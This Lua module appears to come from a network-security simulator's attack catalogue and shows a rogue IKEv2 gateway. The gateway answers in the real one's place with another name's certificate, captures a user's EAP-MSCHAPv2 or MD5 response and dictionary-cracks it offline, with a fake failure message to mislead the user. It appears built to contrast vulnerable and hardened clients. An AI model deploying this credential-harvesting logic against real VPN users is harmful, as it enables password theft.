-- EAP asks a user for a password, and what it gives to the one who asks can be tried against a dictionary. So IKEv2 has the gateway prove itself
-- first, by certificate. But a certificate proves a name, and it is the client that has to know which name it wants - before it says anything.
attack = {
  id = "A09", name = "rogue-gateway",
  about = "Answers in the gateway's place with a genuine certificate of another name, asks by EAP, and tries a dictionary on what the user answers",
  position = "on-path",
  needs = "to answer instead of the gateway, once; any certificate of a CA that the client trusts",
  source = "CVE-2015-4171; RFC 7296, 2.16; RFC 2759, 8; catalogue A09",
  shows = {
    vulnerable = "the client asks for the gateway's name too late, or not at all: it answers, and its password falls to a dictionary",
    hardened = "the name in the certificate is another one: the client ends the conversation before EAP has begun",
  },
  scenarios = { vulnerable = { "rogue-gateway", "rogue-gateway-md5" }, hardened = "rogue-gateway-named" },
}

local answerer, secrets = library "answerer", library "secrets"

-- Parameters: holds = the node whose certificate and key it has, id = that one's name, method = "mschapv2" or "md5"; dictionary = "common",
-- each = 60 (tries in one go), pause = "10ms" (between them).
local p, me, trial, search = nil, nil, nil, nil
local goal = "find the user's password"
local challenge

local methods = {
  md5 = {
    type = 4, name = "MD5-Challenge",
    ask = function() return string.char(#challenge) .. challenge .. "vpn" end,
    take = function(packet) return { value = packet.data:sub(2, 17), id = packet.identifier } end,
    try = function(guess, answer) return eap.md5(answer.id, guess, challenge) == answer.value end,
  },
  mschapv2 = {
    type = 26, name = "EAP-MSCHAPv2",
    ask = function() return string.pack(">I1I1I2I1", 1, 7, 5 + 16 + 3, 16) .. challenge .. "vpn" end,
    take = function(packet)
      local d = packet.data   -- 2, id, length, 49, Peer-Challenge (16), zeros (8), NT-Response (24), flags, name
      return d:byte(1) == 2 and { peer = d:sub(6, 21), value = d:sub(30, 53), user = d:sub(55) }
    end,
    try = function(guess, answer) return eap.mschapv2(guess, challenge, answer.peer, answer.user) == answer.value end,
  },
}
local method, plan

function on_start(params)
  p = params
  assert(p.holds and p.id, "parameters holds, id")
  method = assert(methods[p.method or "mschapv2"], "method is mschapv2 or md5")
  plan = secrets.plan(p, 60)
  challenge = crypto.random(16)
end

-- IKE_AUTH: a proof that is genuine, under a name that is not the gateway's; and the question.
local function prove(packet, message, inner)
  local user = find(inner, "IDi")
  learn("identity", user.id_type_name .. " " .. user.data, "IDi is sent before the responder has shown who it is", user.data)
  if find(inner, "AUTH") then
    me.over = true
    return achieved(goal, false, "the client proves itself without EAP: there is no password")
  end
  local id = ike.id("r", 2, p.id)
  local signature, scheme, identifier = crypto.sign(held("key:" .. p.holds), answerer.own_octets(me, id))
  me.asked = true
  answerer.respond(me, packet, message, { id, ike.cert(held("cert:" .. p.holds)), ike.auth(14, string.char(#identifier) .. identifier .. signature),
    { number = 48, body = eap.packet(1, 1, method.type, method.ask()) } },
    "IKE_AUTH: the name " .. p.id .. ", its certificate, a genuine signature (" .. scheme .. "), and a challenge of " .. method.name)
end

-- The answer to the challenge: from here on nobody is asked any more.
local function take(packet, message, inner)
  local said = find(inner, "EAP")
  local response = said and eap.read(said.data)
  trial = response and response.type == method.type and method.take(response)
  if not trial then
    me.over = true
    return achieved(goal, false, "the client does not answer the challenge")
  end
  mark("The user's client has answered a challenge of mallory's.")
  learn("response", method.name .. " over a challenge of its own: each word can be tried against it", "EAP payload", trial.value)
  answerer.respond(me, packet, message, { { number = 48, body = eap.packet(4, response.identifier) }, ike.notify(24) },
    "EAP-Failure: the user will think of a typing mistake")
  search = secrets.search(plan, {
    fits = function(guess) return method.try(guess, trial) end,
    found = function(guess, tried)
      learn("EAP password", "the user's password is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on the answer to its challenge", guess)
      achieved(goal, true, "found at try " .. tried)
    end,
    none = function(tried) achieved(goal, false, "not one of " .. tried .. " passwords of the dictionary") end,
  })
end

function on_timer() search() end

on({ protocol = "IKE" }, function(packet, message)
  if packet.to == nil or message.response then return end
  if message.exchange_name == "IKE_SA_INIT" then
    drop("the gateway must not see it")
    me = me or answerer.answer(packet, message, "IKE_SA_INIT answered in the gateway's place")
  elseif me and message.spi_r == me.spi then
    drop("meant for the gateway, kept")
    local inner = not me.over and ike.open(packet.payload, me.suite, me.keys)
    if not inner then return end
    if message.exchange_name == "INFORMATIONAL" and not trial then
      me.over = true
      return achieved(goal, false, "the client does not believe that " .. p.id .. " is its gateway, and says nothing more")
    end
    if not me.asked then prove(packet, message, inner)
    elseif not trial and message.message_id == 2 then take(packet, message, inner) end
  end
end)

function on_finish()
  if not me then achieved(goal, false, "no handshake came by") end
  if me and not me.over and not trial then achieved(goal, false, "the client says nothing more") end
end
